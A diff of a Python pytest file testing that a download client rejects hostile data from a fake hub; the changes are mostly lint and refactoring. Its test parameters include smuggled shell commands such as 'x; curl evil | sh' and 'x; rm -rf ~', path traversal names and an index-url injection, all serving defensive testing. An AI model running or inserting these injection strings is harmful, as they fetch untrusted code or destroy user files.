@@ -109,7 +109,7 @@ def test_a_commit_is_forty_hexadecimal_digits(tmp_path, files, outside, sha):
 @pytest.mark.parametrize("change", [
     {"oid": "../../../home/precious.txt"}, {"oid": "0" * 39}, {"oid": None},
     {"lfs": {"oid": "../../../home/precious.txt", "size": 9}}, {"lfs": {"oid": "0" * 63, "size": 9}},
-    {"lfs": []}, {"size": -1}, {"size": "many"}, {"path": {}}, {"path": CONTROL}, {"path": "\x1b" * 100_000 + ".bin"},
+    {"lfs": []}, {"size": -1}, {"size": "many"}, {"path": {}}, {"path": CONTROL}, {"path": "\x1b" * 100_000 + ".bin"},  # noqa: E501
 ])  # fmt: skip
 def test_digests_and_names_in_a_listing_are_checked(tmp_path, files, outside, change):
     refused(tmp_path, files, only(["tree"], lambda a: a.change(**change)))
@@ -117,7 +117,7 @@ def test_digests_and_names_in_a_listing_are_checked(tmp_path, files, outside, ch
 
 @pytest.mark.parametrize("wanted", ["revision", "tree"])
 @pytest.mark.parametrize("body", [
-    HTML, b"", b"null", b"7", b"[" * 100_000, b'{"a":' * 9_000, b'{"sha": "\\ud800"}', b"\xff\xfe", b'["x"]', b" " * 9_000_000,
+    HTML, b"", b"null", b"7", b"[" * 100_000, b'{"a":' * 9_000, b'{"sha": "\\ud800"}', b"\xff\xfe", b'["x"]', b" " * 9_000_000,  # noqa: E501
 ])  # fmt: skip
 def test_what_is_no_answer_of_the_hub_is_one_line(tmp_path, files, wanted, body):
     refused(tmp_path, files, only([wanted], lambda a: replace(a, body=body)))
@@ -255,7 +255,7 @@ def test_a_damaged_record_of_digests_is_one_line(tmp_path, files, record):
 
 @pytest.mark.parametrize(("field", "value"), [
     ("distribution", "evil --index-url http://127.0.0.1/"), ("distribution", "x; curl evil | sh"),
-    ("distribution", "x\n"), ("distribution", "../x"), ("distribution", "x" * 1000), ("plugin", "x; rm -rf ~"), ("plugin", ""), ("plugin", CONTROL),
+    ("distribution", "x\n"), ("distribution", "../x"), ("distribution", "x" * 1000), ("plugin", "x; rm -rf ~"), ("plugin", ""), ("plugin", CONTROL),  # noqa: E501
 ])  # fmt: skip
 def test_a_distribution_is_a_name_and_nothing_else(tmp_path, files, field, value):
     config = json.dumps(json.loads(files["config.json"]) | {field: value}).encode()
@@ -268,7 +268,7 @@ def test_a_distribution_is_a_name_and_nothing_else(tmp_path, files, field, value
 
 def test_texts_of_a_stranger_are_fit_for_a_terminal(tmp_path, files):
     known = json.loads(files["config.json"])
-    texts = {field: CONTROL + "x" * 50_000 for field in ("summary", "licence", "credit", "sha256")}
+    texts = dict.fromkeys(("summary", "licence", "credit", "sha256"), CONTROL + "x" * 50000)
     config = json.dumps(known | texts).encode()
     with HostileHub(files | {"config.json": config}) as hub, machine(tmp_path, hub.address):
         for line in facts(pull(NAME).info):
@@ -288,15 +288,15 @@ def test_every_message_is_bounded_and_free_of_control_characters(capsys):
 
 @pytest.mark.parametrize("seed", range(12))
 def test_random_lies_end_in_an_error_of_our_own_or_in_verified_files(tmp_path, files, outside, seed):
-    start = time.monotonic()
+    start, errors = time.monotonic(), []
     with HostileHub(files, random_changes(seed)) as hub, machine(tmp_path, hub.address):
         for _ in range(2):
             try:
                 folder: Path = pull(NAME).folder
             except ColorzooError as error:
-                assert str(error).isprintable()
-                assert len(str(error)) < 1000
+                errors.append(str(error))
                 continue
             for file in folder.iterdir():
                 assert file.read_bytes() == files[file.name]
+    assert all(text.isprintable() and len(text) < 1000 for text in errors)
     assert time.monotonic() - start < 2 * HANG
